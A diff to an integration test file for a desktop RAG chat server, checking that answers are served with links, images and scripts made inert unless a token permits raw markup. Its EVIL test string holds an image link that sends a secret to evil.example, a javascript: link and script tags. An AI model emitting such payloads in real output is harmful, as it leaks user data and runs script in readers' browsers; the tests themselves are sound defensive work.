@@ -11,6 +11,8 @@ from desktop_rag.features.server.access.token_book import TokenBook
 from tests.integration.serving.conftest import Serve, Server
 from tests.servers.chat_server import ChatServer
 
+pytestmark = pytest.mark.usefixtures("one_library")
+
 EVIL = (
     "The lamp is lit at dusk [1]. ![](http://evil.example/?d=SECRET) <img src=x>"
     " [here](javascript:alert(1)) <script>x</script>\n\n```html\n<b>code</b>\n```\n"
@@ -41,7 +43,7 @@ def streamed(server: Server) -> str:
 @pytest.mark.everyday
 def test_nothing_in_an_answer_is_live(server: Server) -> None:
     with server.client() as client:
-        whole = client.post("/v1/chat/completions", json=ASKED, timeout=30).json()
+        whole = client.post("/v1/chat/completions", json=ASKED).json()
     message = whole["choices"][0]["message"]
     assert message["content"] == CALM
     assert message["annotations"][0]["url_citation"]["start_index"] == CALM.index("[1]")
@@ -52,7 +54,7 @@ def test_nothing_in_an_answer_is_live(server: Server) -> None:
 def test_a_stored_conversation_is_inert_too(server: Server) -> None:
     asked = {"question": "When is it lit?", "conversation": "new"}
     with server.client() as client:
-        answer = client.post("/api/v1/ask", json=asked, timeout=30).json()
+        answer = client.post("/api/v1/ask", json=asked).json()
         kept = client.get(f"/api/v1/conversations/{answer['conversation_id']}").json()
     assert answer["text"] == CALM
     assert kept["messages"][-1]["text"] == CALM
@@ -63,5 +65,5 @@ def test_a_token_may_get_the_markup(server: Server, indexed: Services) -> None:
     token, secret = new_token("raw", [TokenScope.ASK], passes_markup=True)
     TokenBook(indexed.home.tokens).add(token)
     with server.client(secret) as client:
-        whole = client.post("/v1/chat/completions", json=ASKED, timeout=30).json()
+        whole = client.post("/v1/chat/completions", json=ASKED).json()
     assert whole["choices"][0]["message"]["content"] == EVIL
